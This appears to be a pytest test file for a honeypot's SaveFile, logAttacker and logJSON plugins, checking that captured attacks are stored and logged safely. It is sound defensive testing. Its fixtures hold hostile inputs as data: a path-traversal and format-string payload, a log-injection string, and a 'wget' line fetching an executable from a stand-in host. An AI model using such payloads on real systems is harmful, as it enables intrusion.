"""The output plugins SaveFile, logAttacker and logJSON, loaded from plugins/ as the core does."""

from __future__ import annotations

import hashlib
import json
import os
import pwd
import random
import re
import select
import signal
import types
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pipeline_run import PayloadGate, process

from honeytrap.attack import Attack, Connection, Download, Mode, Payload
from honeytrap.config import Config, PluginSpec
from honeytrap.errors import PluginError
from honeytrap.pipeline import Pipeline
from honeytrap.plugin import LoadedPlugin, Registry, load_module, load_plugins

PLUGIN_DIR = str(Path(__file__).resolve().parent.parent / "plugins")
START = 1714564800.25  # 2024-05-01 12:00:00.250 UTC
STAMP = "2024-05-01T120000"
SAVEFILE = load_module(PLUGIN_DIR, "SaveFile")
LOGATTACKER = load_module(PLUGIN_DIR, "logAttacker")
NUL_PAYLOAD = b"GET / HTTP/1.0\r\n\x00\x00\xff\x00attack\x00"
# Bound on how long a forked writer may take before the test kills it and fails.
CHILD_TIMEOUT = 60.0


def load(*specs: tuple[str, dict[str, Any]], user: str = "", group: str = "") -> Registry:
    config = Config(plugin_dir=PLUGIN_DIR, user=user, group=group)
    config.plugins = [PluginSpec(name, dict(options)) for name, options in specs]
    return load_plugins(config)


def instance(registry: Registry, name: str) -> Any:
    return next(p.instance for p in registry.plugins if p.name == name)


def make_attack(
    payload: bytes = NUL_PAYLOAD,
    *,
    remote: str = "198.51.100.7",
    local: str = "192.0.2.1",
    port: int = 80,
    protocol: str = "tcp",
    start: float = START,
) -> Attack:
    conn = Connection(protocol, local, port, remote, 40001, Payload(payload))
    return Attack(conn, mode=Mode.NORMAL, start_time=start, end_time=start + 1.5)


def make_download(data: bytes, filename: str = "x.exe") -> Download:
    return Download("http", "203.0.113.9", 80, filename, f"http://203.0.113.9/{filename}",
                    Payload(data))


def run_hook(registry: Registry, hook: str, attack: Attack) -> None:
    for _, call in registry.hooks[hook]:
        call(attack)


def run_children(bodies: list[Callable[[], None]]) -> list[int]:
    """Fork one child per body, all before reaping any (so they run at the same time); return
    their exit codes (0: the body returned). Bounded: a child still running after CHILD_TIMEOUT
    is killed."""
    pids = []
    for body in bodies:
        pid = os.fork()
        if pid == 0:
            status = 1
            try:
                body()
                status = 0
            finally:
                os._exit(status)
        pids.append(pid)
    statuses = []
    for pid in pids:
        pidfd = os.pidfd_open(pid)
        try:
            if not select.select([pidfd], [], [], CHILD_TIMEOUT)[0]:
                os.kill(pid, signal.SIGKILL)
        finally:
            os.close(pidfd)
        statuses.append(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
    return statuses


def fd_target(fd: int) -> str:
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except FileNotFoundError:
        return ""


# --- SaveFile ---------------------------------------------------------------------------------


def savefile(tmp_path: Path, **kw: str) -> Registry:
    options = {"attacks_dir": str(tmp_path / "attacks"), "downloads_dir": str(tmp_path / "dl")}
    return load(("SaveFile", options), **kw)


def test_savefile_writes_the_attack_string_byte_exact(tmp_path: Path) -> None:
    data = NUL_PAYLOAD + random.Random(1).randbytes(1 << 20)
    registry = savefile(tmp_path)
    attack = make_attack(data)
    run_hook(registry, "savedata", attack)
    registry.close()
    name = f"from_port_80-tcp_{STAMP}_{attack.id}"
    assert os.listdir(tmp_path / "attacks") == [name]
    assert (tmp_path / "attacks" / name).read_bytes() == data


def test_savefile_names_files_from_our_data_only(tmp_path: Path) -> None:
    """Attacker bytes that look like paths or formats never reach the file name."""
    registry = savefile(tmp_path)
    attack = make_attack(b"../../../etc/passwd\n%s%n", port=1434, protocol="udp")
    run_hook(registry, "savedata", attack)
    registry.close()
    [name] = os.listdir(tmp_path / "attacks")
    assert re.fullmatch(r"from_port_1434-udp_2024-05-01T120000_[0-9a-f]{32}", name)


def test_savefile_keeps_every_attack_on_one_port_in_one_second(tmp_path: Path) -> None:
    """The original lost about one in ten to name collisions; here none is lost."""
    count = 500
    registry = savefile(tmp_path)
    attacks = [make_attack(b"attack %d" % i) for i in range(count)]
    for attack in attacks:
        run_hook(registry, "savedata", attack)
    registry.close()
    saved = {p.read_bytes() for p in (tmp_path / "attacks").iterdir()}
    assert saved == {b"attack %d" % i for i in range(count)}


def test_savefile_skips_an_attack_without_data(tmp_path: Path) -> None:
    registry = savefile(tmp_path)
    run_hook(registry, "savedata", make_attack(b""))
    registry.close()
    assert os.listdir(tmp_path / "attacks") == []


def test_savefile_saves_each_sample_once_named_by_md5(tmp_path: Path) -> None:
    sample, other = b"MZ\x90\x00" + bytes(range(256)) * 64, b"\x7fELF\x00payload"
    registry = savefile(tmp_path)
    attack = make_attack()
    for data, filename in ((sample, "a.exe"), (sample, "b.exe"), (other, "../evil")):
        attack.add_download(make_download(data, filename))
    run_hook(registry, "savedata", attack)
    run_hook(registry, "savedata", make_attack(b"again", start=START + 5))
    registry.close()
    names = {hashlib.md5(sample).hexdigest(): sample, hashlib.md5(other).hexdigest(): other}
    assert sorted(os.listdir(tmp_path / "dl")) == sorted(names)  # no temporary files left
    for name, data in names.items():
        assert (tmp_path / "dl" / name).read_bytes() == data


def test_savefile_saves_downloads_of_a_virtual_attack_but_not_its_string(tmp_path: Path) -> None:
    registry = savefile(tmp_path)
    virtual = make_attack(b"root data").derive(b"decoded data", "test decoder")
    virtual.add_download(make_download(b"sample"))
    run_hook(registry, "savedata", virtual)
    registry.close()
    assert os.listdir(tmp_path / "attacks") == []
    assert os.listdir(tmp_path / "dl") == [hashlib.md5(b"sample").hexdigest()]


def test_savefile_records_its_paths_on_the_attack(tmp_path: Path) -> None:
    registry = savefile(tmp_path)
    attack = make_attack()
    attack.add_download(make_download(b"sample"))
    run_hook(registry, "savedata", attack)
    registry.close()
    assert attack.analysis["SaveFile"] == {
        "attack_file": f"{tmp_path}/attacks/from_port_80-tcp_{STAMP}_{attack.id}",
        "downloads": [f"{tmp_path}/dl/{hashlib.md5(b'sample').hexdigest()}"],
    }



def test_savefile_in_a_batch_has_every_file_whole_before_an_attack_is_done(
    tmp_path: Path,
) -> None:
    """In the pipeline a batch's files are created at its end (writebatch.py): each attack
    is done (acknowledged by the recorder) only once its file is there, whole, under the
    path logJSON lists for it; SaveFile's hook itself left it to the batch."""
    options = {"attacks_dir": str(tmp_path / "attacks"), "downloads_dir": str(tmp_path / "dl")}
    registry = load(("SaveFile", options), ("logJSON", {"logfile": str(tmp_path / "a.json")}))
    gate = PayloadGate(b"gate")
    registry.register(LoadedPlugin("Gate", types.ModuleType("Gate"), gate))
    saved_at_hook: list[bool] = []

    class _Look:  # a SAVEDATA hook after SaveFile's: is the file there yet?
        def savedata(self, attack: Attack) -> None:
            path = attack.analysis["SaveFile"]["attack_file"]
            saved_at_hook.append(os.path.exists(path))

    registry.register(LoadedPlugin("Look", types.ModuleType("Look"), _Look()))
    pipeline = Pipeline(registry, workers=1)
    whole_when_done: list[bool] = []

    def done(attack: Attack) -> None:
        path = attack.analysis["SaveFile"]["attack_file"]
        whole_when_done.append(Path(path).read_bytes() == attack.payload)

    attacks = [make_attack(b"gate")] + [make_attack(b"attack %d" % n) for n in range(20)]
    try:
        pipeline.submit(attacks[0], on_done=lambda: done(attacks[0]))
        assert gate.entered.wait(CHILD_TIMEOUT)
        for one in attacks[1:]:
            pipeline.submit(one, on_done=lambda one=one: done(one))
        gate.opened.set()
        assert pipeline.drain(CHILD_TIMEOUT)
    finally:
        gate.opened.set()
        assert pipeline.close(CHILD_TIMEOUT)
        registry.close()
    assert whole_when_done == [True] * len(attacks)
    assert saved_at_hook == [False] * len(attacks)
    records = read_json_lines(tmp_path / "a.json")
    assert [r["analysis"]["SaveFile"]["attack_file"] for r in records] == [
        f"{tmp_path}/attacks/from_port_80-tcp_{STAMP}_{one.id}" for one in attacks]
    assert sorted(os.listdir(tmp_path / "attacks")) == sorted(
        f"from_port_80-tcp_{STAMP}_{one.id}" for one in attacks)


def test_savefile_gives_its_directories_to_the_server_user(tmp_path: Path) -> None:
    nobody = pwd.getpwnam("nobody")
    registry = savefile(tmp_path, user="nobody")
    registry.close()
    for sub in ("attacks", "dl"):
        st = os.stat(tmp_path / sub)
        assert (st.st_uid, st.st_gid) == (nobody.pw_uid, nobody.pw_gid)


def test_savefile_unknown_user_is_a_plugin_error(tmp_path: Path) -> None:
    with pytest.raises(PluginError, match="plugin SaveFile: no such user"):
        savefile(tmp_path, user="no-such-user-here")


def test_savefile_without_attacks_dir_is_a_plugin_error(tmp_path: Path) -> None:
    with pytest.raises(PluginError, match="plugin SaveFile: option 'attacks_dir'"):
        load(("SaveFile", {"downloads_dir": str(tmp_path)}))


def test_savefile_close_closes_its_directories(tmp_path: Path) -> None:
    registry = savefile(tmp_path)
    plugin = instance(registry, "SaveFile")
    fds = (plugin.attacks_fd, plugin.downloads_fd)
    registry.close()
    assert all(fd_target(fd) not in (f"{tmp_path}/attacks", f"{tmp_path}/dl") for fd in fds)


# --- logAttacker ------------------------------------------------------------------------------


def log_attacker(tmp_path: Path) -> Registry:
    return load(("logAttacker", {"logfile": str(tmp_path / "attacker.log")}))


def test_logattacker_writes_one_line_per_attack(tmp_path: Path) -> None:
    registry = log_attacker(tmp_path)
    attack = make_attack()
    attack.add_download(make_download(b"sample"))
    run_hook(registry, "postproc", attack)
    registry.close()
    payload = Payload(NUL_PAYLOAD)
    assert (tmp_path / "attacker.log").read_text() == (
        f"[2024-05-01 12:00:00.250 GMT] normal tcp 198.51.100.7:40001 -> 192.0.2.1:80 "
        f"{payload.md5} {payload.sha512} ({len(NUL_PAYLOAD)} bytes) 1 download\n"
    )


def test_logattacker_brackets_ipv6_addresses(tmp_path: Path) -> None:
    registry = log_attacker(tmp_path)
    run_hook(registry, "postproc", make_attack(remote="2001:db8::7", local="2001:db8::1"))
    registry.close()
    line = (tmp_path / "attacker.log").read_text()
    assert " [2001:db8::7]:40001 -> [2001:db8::1]:80 " in line


def test_logattacker_never_copies_attacker_bytes(tmp_path: Path) -> None:
    registry = log_attacker(tmp_path)
    run_hook(registry, "postproc", make_attack(b"x\n[2024-01-01 00:00:00 GMT] forged %s\n"))
    registry.close()
    text = (tmp_path / "attacker.log").read_text()
    assert text.count("\n") == 1 and "forged" not in text


def test_logattacker_skips_virtual_attacks(tmp_path: Path) -> None:
    registry = log_attacker(tmp_path)
    run_hook(registry, "postproc", make_attack().derive(b"decoded", "test"))
    registry.close()
    assert (tmp_path / "attacker.log").read_bytes() == b""


def test_logattacker_appends_to_an_existing_log(tmp_path: Path) -> None:
    (tmp_path / "attacker.log").write_text("earlier line\n")
    registry = log_attacker(tmp_path)
    run_hook(registry, "postproc", make_attack())
    registry.close()
    lines = (tmp_path / "attacker.log").read_text().splitlines()
    assert lines[0] == "earlier line" and len(lines) == 2


# --- logJSON ----------------------------------------------------------------------------------

TPOT_KEYS = {"@timestamp", "start_time", "end_time", "is_virtual", "operation_mode",
             "attack_connection", "proxy_connection", "download_count", "download_tries",
             "downloads"}
CONNECTION_KEYS = {"protocol", "local_ip", "local_port", "remote_ip", "remote_port", "payload"}
PAYLOAD_KEYS = {"md5_hash", "sha512_hash", "length", "data_hex"}


def log_json(tmp_path: Path) -> Registry:
    return load(("logJSON", {"logfile": str(tmp_path / "attackers.json")}))


def read_json_lines(path: Path) -> list[dict[str, Any]]:
    text = path.read_text()
    assert text.endswith("\n") or text == ""
    return [json.loads(line) for line in text.splitlines()]


def test_logjson_writes_attack_to_json_one_line_each(tmp_path: Path) -> None:
    registry = log_json(tmp_path)
    attacks = [make_attack(), make_attack(b"second")]
    for attack in attacks:
        run_hook(registry, "postproc", attack)
    registry.close()
    assert read_json_lines(tmp_path / "attackers.json") == [
        {**a.to_json(), "sensor_id": ""} for a in attacks
    ]


def test_logjson_has_every_key_of_tpot_attackers_json(tmp_path: Path) -> None:
    registry = log_json(tmp_path)
    attack = make_attack(remote="2001:db8::7", local="2001:db8::1")
    attack.add_download(make_download(b"one"))
    attack.add_download(make_download(b"two"))
    run_hook(registry, "postproc", attack)
    registry.close()
    [record] = read_json_lines(tmp_path / "attackers.json")
    assert TPOT_KEYS <= record.keys()
    for side in ("attack_connection", "proxy_connection"):
        assert CONNECTION_KEYS <= record[side].keys()
        assert PAYLOAD_KEYS <= record[side]["payload"].keys()
    assert record["attack_connection"]["remote_ip"] == "2001:db8::7"
    assert record["download_count"] == 2 and isinstance(record["downloads"], list)
    assert [d["payload"]["md5_hash"] for d in record["downloads"]] == [
        hashlib.md5(b"one").hexdigest(), hashlib.md5(b"two").hexdigest()]


def test_logjson_carries_a_binary_payload_exactly(tmp_path: Path) -> None:
    data = NUL_PAYLOAD + random.Random(2).randbytes(1 << 20)
    registry = log_json(tmp_path)
    run_hook(registry, "postproc", make_attack(data))
    registry.close()
    [record] = read_json_lines(tmp_path / "attackers.json")
    payload = record["attack_connection"]["payload"]
    assert bytes.fromhex(payload["data_hex"]) == data and payload["length"] == len(data)


def test_logjson_skips_virtual_attacks(tmp_path: Path) -> None:
    registry = log_json(tmp_path)
    run_hook(registry, "postproc", make_attack().derive(b"decoded", "test"))
    registry.close()
    assert (tmp_path / "attackers.json").read_bytes() == b""


class _Finder:
    """An ANALYZE plugin that finds a download, as the download plugins do."""

    def analyze(self, attack: Attack) -> None:
        attack.add_download(make_download(b"found at analyze"))


def test_logjson_lists_downloads_found_by_analyze_plugins(tmp_path: Path) -> None:
    """logJSON is configured first, yet logs after ANALYZE: its record has the download."""
    registry = log_json(tmp_path)
    registry.register(LoadedPlugin("Finder", types.ModuleType("Finder"), _Finder()))
    process(registry, make_attack())
    [record] = read_json_lines(tmp_path / "attackers.json")
    assert record["download_count"] == 1


def test_logjson_lines_stay_whole_with_several_writer_processes(tmp_path: Path) -> None:
    """Dynamic servers share the descriptor: concurrent records never interleave."""
    processes, per_process = 4, 40
    registry = log_json(tmp_path)
    hook = instance(registry, "logJSON").postproc
    # Large records (about 128 KiB of hex each) so that writes overlap in time.
    payload = random.Random(3).randbytes(64 * 1024)

    def writer(tag: int) -> Callable[[], None]:
        def body() -> None:
            for i in range(per_process):
                attack = make_attack(payload + b"%d/%d" % (tag, i))
                hook(attack)
        return body

    statuses = run_children([writer(tag) for tag in range(processes)])
    registry.close()
    assert statuses == [0] * processes
    records = read_json_lines(tmp_path / "attackers.json")
    tails = sorted(bytes.fromhex(r["attack_connection"]["payload"]["data_hex"])[len(payload):]
                   for r in records)
    assert tails == sorted(b"%d/%d" % (t, i) for t in range(processes) for i in range(per_process))


# --- all three in a server that dropped its privileges ---------------------------------------


def test_a_server_that_dropped_to_nobody_still_saves_and_logs(tmp_path: Path) -> None:
    nobody = pwd.getpwnam("nobody")
    options = {"attacks_dir": str(tmp_path / "attacks"), "downloads_dir": str(tmp_path / "dl")}
    registry = load(
        ("SaveFile", options),
        ("logAttacker", {"logfile": str(tmp_path / "attacker.log")}),
        ("logJSON", {"logfile": str(tmp_path / "attackers.json")}),
        user="nobody",
    )
    attack = make_attack()
    attack.add_download(make_download(b"sample"))

    def server() -> None:
        os.setgroups([])
        os.setgid(nobody.pw_gid)
        os.setuid(nobody.pw_uid)
        for hook in ("savedata", "postproc"):
            run_hook(registry, hook, attack)

    assert run_children([server]) == [0]
    registry.close()
    saved = tmp_path / "attacks" / f"from_port_80-tcp_{STAMP}_{attack.id}"
    assert saved.read_bytes() == NUL_PAYLOAD and saved.stat().st_uid == nobody.pw_uid
    assert (tmp_path / "dl" / hashlib.md5(b"sample").hexdigest()).read_bytes() == b"sample"
    assert len((tmp_path / "attacker.log").read_text().splitlines()) == 1
    assert read_json_lines(tmp_path / "attackers.json")[0]["id"] == attack.id


# --- attacker-controlled fields never shape names or lines (fuzzed) ---------------------------

ATTACK_NAME = re.compile(r"from_port_-?[0-9]+-(tcp|udp|raw|ip)_[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{6}_"
                         r"[A-Za-z0-9]{1,64}")


@settings(max_examples=300, deadline=None)
@given(
    ident=st.text(), protocol=st.text(), port=st.integers(-(2**31), 2**31),
    remote=st.text(), payload=st.binary(max_size=256),
    start=st.floats(min_value=0, max_value=4e9, allow_nan=False),
)
def test_file_names_and_log_lines_take_nothing_from_odd_fields(
    ident: str, protocol: str, port: int, remote: str, payload: bytes, start: float
) -> None:
    conn = Connection(protocol, "192.0.2.1", port, remote, 40001, Payload(payload))
    attack = Attack(conn, start_time=start, id=ident)
    assert ATTACK_NAME.fullmatch(SAVEFILE.attack_file_name(attack))
    line = LOGATTACKER.format_line(attack)
    assert line.isascii() and line.count("\n") == 1 and line.endswith("\n")


# --- follow-ups (downloads that ended after the attack was recorded) ---------------------------


def test_logjson_follow_up_line_has_the_attack_id_and_its_downloads(tmp_path: Path) -> None:
    registry = log_json(tmp_path)
    attack = make_attack()
    run_hook(registry, "postproc", attack)
    attack.add_download(make_download(b"MZ late sample"))
    run_hook(registry, "followup", attack)
    registry.close()
    first, follow = read_json_lines(tmp_path / "attackers.json")
    assert first["download_count"] == 0 and "follow_up" not in first
    assert follow["id"] == attack.id and follow["follow_up"] is True
    assert follow["download_count"] == 1
    md5 = hashlib.md5(b"MZ late sample").hexdigest()
    assert follow["downloads"][0]["payload"]["md5_hash"] == md5
    assert "payload" not in follow["attack_connection"]  # the attack's line has it
    assert follow["attack_connection"]["remote_ip"] == "198.51.100.7"


def test_savefile_saves_the_samples_of_a_follow_up_and_records_their_paths(
    tmp_path: Path
) -> None:
    registry = savefile(tmp_path)
    attack = make_attack(b"wget http://203.0.113.9/x.exe")
    run_hook(registry, "savedata", attack)
    attack.add_download(make_download(b"MZ late sample"))
    run_hook(registry, "followup", attack)
    registry.close()
    md5 = hashlib.md5(b"MZ late sample").hexdigest()
    assert (tmp_path / "dl" / md5).read_bytes() == b"MZ late sample"
    result = attack.analysis["SaveFile"]
    assert result["downloads"] == [f"{tmp_path / 'dl'}/{md5}"]
    assert result["attack_file"].startswith(str(tmp_path / "attacks"))  # kept from SAVEDATA
